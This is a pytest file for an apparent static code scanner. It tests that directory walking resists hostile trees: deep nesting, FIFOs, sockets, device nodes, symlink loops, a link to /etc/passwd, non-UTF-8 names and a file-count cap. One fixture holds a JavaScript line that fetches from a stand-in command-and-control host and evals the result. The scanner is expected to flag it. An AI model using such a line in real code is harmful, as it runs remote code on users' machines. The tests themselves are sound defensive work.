"""Defence in depth in the static walk: no device, FIFO or socket is opened, no link followed,
no recursion on deep trees, names that are not UTF-8 shown escaped, and a cap on the file count."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from inspector.static import walk
from inspector.static.interface import read_regular
from tests.hostile._static_support import rules, scan_static, with_rule
from tests.hostile.conftest import nest, remove_nested

DEPTH = 20_000


@pytest.fixture
def deep_tree(tmp_path: Path) -> Iterator[Path]:
    nest(tmp_path, DEPTH, "leaf.js")
    try:
        yield tmp_path
    finally:
        remove_nested(tmp_path, "leaf.js")


def test_twenty_thousand_nested_directories_do_not_raise(deep_tree: Path) -> None:
    (deep_tree / "top.js").write_text("module.exports = 1;\n")
    files, notes = walk(deep_tree)
    assert "top.js" in {f.path for f in files}
    assert any("could not be listed" in n.message for n in notes)  # past PATH_MAX: said, not raised


def test_special_files_are_listed_never_opened(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "fifo.js")
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind(str(tmp_path / "sock.js"))
        with contextlib.suppress(PermissionError):  # not root: the FIFO and the socket stand for it
            os.mknod(tmp_path / "zero-device.js", stat.S_IFCHR | 0o600, os.makedev(1, 5))  # like /dev/zero
        (tmp_path / ".git").mkdir()
        os.mkfifo(tmp_path / ".git" / "index")
        os.mkfifo(tmp_path / ".git" / "config")
        result = scan_static(tmp_path)
    notes = {f.path: f.message for f in with_rule(result, "analysis.not-scanned")}
    assert notes["fifo.js"].startswith("FIFO")
    assert notes["sock.js"].startswith("socket")
    if (tmp_path / "zero-device.js").exists():
        assert notes["zero-device.js"].startswith("device node")
    assert result.files_scanned == 0


def test_a_fifo_is_refused_by_the_reader(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "f")
    with pytest.raises(PermissionError, match="not a regular file"):
        read_regular(tmp_path, "f", 10)


def test_links_are_listed_never_followed(tmp_path: Path) -> None:
    (tmp_path / "self.js").symlink_to("self.js")
    (tmp_path / "a.js").symlink_to("b.js")
    (tmp_path / "b.js").symlink_to("a.js")
    (tmp_path / "passwd.js").symlink_to("/etc/passwd")
    (tmp_path / "up").symlink_to("..")
    result = scan_static(tmp_path)
    files, _ = walk(tmp_path)
    assert {f.path for f in files if f.is_link} == {"self.js", "a.js", "b.js", "passwd.js", "up"}
    assert result.files_scanned == 0
    with pytest.raises(OSError):
        read_regular(tmp_path, "passwd.js", 10)


def test_names_that_are_not_utf8_are_shown_escaped(tmp_path: Path) -> None:
    name = os.fsdecode(b"\xffbad\xfe.js")
    (tmp_path / name).write_text("const u = 'https://c2.name.test/p'; eval(require('https').get(u));\n")
    result = scan_static(tmp_path)
    paths = {f.path for f in result.findings} | {s.path for e in result.endpoints for s in e.sources}
    assert "\\xffbad\\xfe.js" in paths
    json.dumps(sorted(p for p in paths if p)).encode("utf-8")  # every path is valid text
    assert "c2.name.test" in {e.host for e in result.endpoints}


def test_the_file_count_is_capped_loudly(tmp_path: Path) -> None:
    for index in range(60):
        (tmp_path / f"f{index:03}.txt").write_text("x\n")
    result = scan_static(tmp_path, max_files=50)
    assert result.files_scanned == 50
    cap = with_rule(result, "analysis.file-count-cap")
    assert cap and "50" in cap[0].message and "max_files" in cap[0].message
    assert any(s.component == "static:files" for s in result.skipped)
    assert "analysis.file-count-cap" not in rules(scan_static(tmp_path))
